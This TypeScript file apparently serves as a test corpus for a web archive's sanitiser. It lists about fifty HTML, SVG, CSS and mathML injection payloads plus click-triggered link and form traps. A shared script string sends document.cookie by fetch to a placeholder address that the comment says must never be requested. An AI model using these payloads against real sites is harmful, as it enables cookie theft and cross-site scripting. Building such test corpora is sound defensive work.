/** What an archived page may try. `to` is an address that must never be asked for; `ours` a form of the application. */
type Attack = (to: string, ours: string) => string;

const SCRIPT =
  "alert('SKADA');console.log('SKADA');try{top.document.title='SKADA'}catch{}try{top.location='TO/top'}catch{}" +
  "fetch('TO/fetch?'+document.cookie);";

/** A script as the value of an attribute in double quotes. */
const run = (to: string): string => SCRIPT.replaceAll('TO', to);

/** What does harm by itself where a browser is left alone with it. */
export const attacks: Record<string, Attack> = {
  script: (to) => `<script>${run(to)}</script>`,
  'script in capitals': (to) => `<SCRIPT/x>${run(to)}</SCRIPT >`,
  'script in svg': (to) => `<svg><script>${run(to)}</script></svg>`,
  'script in svg by address': (to) => `<svg><script href="${to}/js"></script></svg>`,
  'module script': (to) => `<script type="module">${run(to)}</script>`,
  'image that fails': (to) => `<img src="${to}/x.png" onerror="${run(to)}">`,
  'image with a slash for a space': (to) => `<img/src=x/onerror="${run(to)}">`,
  'image in svg': (to) => `<svg><image href="${to}/x.png"/></svg>`,
  'image by another name': (to) => `<image src="${to}/x.png">`,
  'image set': (to) => `<picture><source srcset="${to}/a.png"><img srcset="${to}/b.png 1x"></picture>`,
  'image attribution': (to) => `<img attributionsrc="${to}/a" src="${to}/b">`,
  'svg that loads': (to) => `<svg onload="${run(to)}"></svg>`,
  'svg use': (to) => `<svg><use href="${to}/x.svg#a"></use></svg>`,
  'svg filter image': (to) =>
    `<svg><filter id="f"><feImage href="${to}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  'foreign object': (to) =>
    `<svg><foreignObject><img src="${to}/x" onerror="${run(to)}"></foreignObject></svg>`,
  'animation that begins': (to) =>
    `<svg><animate attributeName="x" dur="1s" onbegin="${run(to)}"/><rect width="9" height="9"/></svg>`,
  'details that open': (to) => `<details open ontoggle="${run(to)}"><summary>x</summary></details>`,
  'focus taken': (to) => `<input autofocus onfocus="${run(to)}">`,
  video: (to) => `<video src="${to}/v.mp4" poster="${to}/p.png" onerror="${run(to)}"></video>`,
  'body that loads': (to) => `<body onload="${run(to)}" background="${to}/b.png">`,
  frame: (to) => `<iframe src="${to}/frame"></iframe>`,
  'frame with a document': (to) => `<iframe srcdoc="&lt;script>${run(to)}&lt;/script>"></iframe>`,
  'frame with a script for an address': (to) => `<iframe src="javascript:${run(to)}"></iframe>`,
  object: (to) => `<object data="${to}/o.svg"></object>`,
  embed: (to) => `<embed src="${to}/e.svg">`,
  refresh: (to) => `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
  'style sheet': (to) => `<link rel="stylesheet" href="${to}/x.css"><link rel="prefetch" href="${to}/y">`,
  'icon and preload': (to) => `<link rel="preload" as="image" href="${to}/p.png">`,
  'style that imports': (to) => `<style>@import "${to}/x.css"; @import url(${to}/y.css);</style>`,
  'style that loads': (to) =>
    `<style>p::before{content:url(${to}/a.png)}@font-face{font-family:f;src:url(${to}/f)}p{font-family:f}</style>`,
  'style of an element': (to) => `<p style="background:url(${to}/x.png);list-style:url('${to}/y')">x</p>`,
  'style that reads a field': (to) =>
    `<style>input[value^="a"]{background:url(${to}/a)}</style><input value="abc">`,
  'attribute of svg that loads': (to) =>
    `<svg><rect width="9" height="9" fill="red" style="background:url(${to}/x)"/></svg><p style="background-image:image-set('${to}/x' 1x)">x</p>`,
  'shadow root': (to) =>
    `<div><template shadowrootmode="open"><img src="${to}/x" onerror="${run(to)}"></template></div>`,
  'script that never ends': (to) => `<script>${run(to)}<!--<script>`,
  'form sent by a script': (_, ours) =>
    `<form method="post" action="${ours}"><input name="reason" value="x"></form><script>document.forms[0].submit()</script>`,
  // Markup that is one thing to one reader and another to the next.
  'noscript and a title': (to) =>
    `<noscript><p title="</noscript><img src=x onerror='${run(to).replaceAll("'", '`')}'>">`,
  'comment that ends early': (to) => `<!--><img src="${to}/c" onerror="${run(to)}">-->`,
  'comment that ends oddly': (to) => `<!-- --!><img src="${to}/c" onerror="${run(to)}">-->`,
  'declaration for a comment': (to) => `<!x title="><img src='${to}/c'>">`,
  'cdata in html': (to) => `<![CDATA[><img src="${to}/c">]]>`,
  'style in math': (to) =>
    `<math><mtext><style><img title="</style><img src='${to}/m'>"></style></mtext></math>`,
  'style in svg': (to) => `<svg><style><img src="${to}/s"></style></svg>`,
  'table in math in a form': (to) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src="${to}/m" onerror="${run(to)}">`,
  'glyph, style and a comment': (to) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${to}/g onerror=alert(1)&gt;" src="${to}/h">`,
  'text area': (to) => `<textarea><img title="</textarea><img src='${to}/t'>"></textarea>`,
  'title in svg': (to) => `<svg><title><style><img src="${to}/t"></style></title></svg>`,
  'unquoted and broken': (to) => `<<img src=${to}/u onerror=x <p/><a/b=c onclick=x>`,
  'null letters': (to) => `<im\u0000g src="${to}/n"><img s\u0000rc="${to}/n" src="${to}/m">`,
  'end tag with attributes': (to) => `</p/><img src="${to}/e"></br onerror="x">`,
  select: (to) => `<select><option><img src="${to}/s"></select><img src="${to}/t">`,
  'frame set': (to) => `<frameset><frame src="${to}/f"></frameset>`,
  'plain text': (to) => `<img src="${to}/p"><plaintext><img src="${to}/q">`,
};

/** What does harm once it is clicked: where the parts of each are, is found by their tag. */
export const traps: Record<string, Attack> = {
  'link with a script': (to) => `<a href="javascript:${run(to)}">klicka</a>`,
  'link with a broken scheme': (to) => `<a href=" java&#10;script&colon;${run(to)}">klicka</a>`,
  link: (to) => `<a href="${to}/link" ping="${to}/ping">klicka</a>`,
  'link out of the frame': (to) => `<a href="${to}/link" target="_top">klicka</a>`,
  'link and base': (to) => `<base href="${to}/" target="_top"><a href="x">klicka</a>`,
  'link in svg': (to) =>
    `<svg width="90" height="30"><a xlink:href="${to}/svg"><text y="20">klicka</text></a></svg>`,
  'link that an animation makes': (to) =>
    `<svg width="90" height="30"><a><set attributeName="href" to="${to}/set"/><text y="20">klicka</text></a></svg>`,
  'link that values make': (to) =>
    `<svg width="90" height="30"><a><animate attributeName="href" values="${to}/anim" dur="9s"/><text y="20">klicka</text></a></svg>`,
  handler: (to) => `<button onclick="${run(to)}">klicka</button>`,
  form: (to) => `<form action="${to}/form"><button>klicka</button></form>`,
  'form to us': (_, ours) =>
    `<form method="post" action="${ours}"><input name="reason" value="x"><button>klicka</button></form>`,
  'button of another form': (to) =>
    `<form id="f"></form><button form="f" formaction="${to}/b" formtarget="_top">klicka</button>`,
  map: (to) =>
    `<map name="m"><area href="${to}/area" shape="default"></map><img usemap="#m" width="90" height="30" alt="klicka">`,
  'link after a glyph': (to) =>
    `<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;a href=${to}/g&gt;klicka">x</b>`,
};
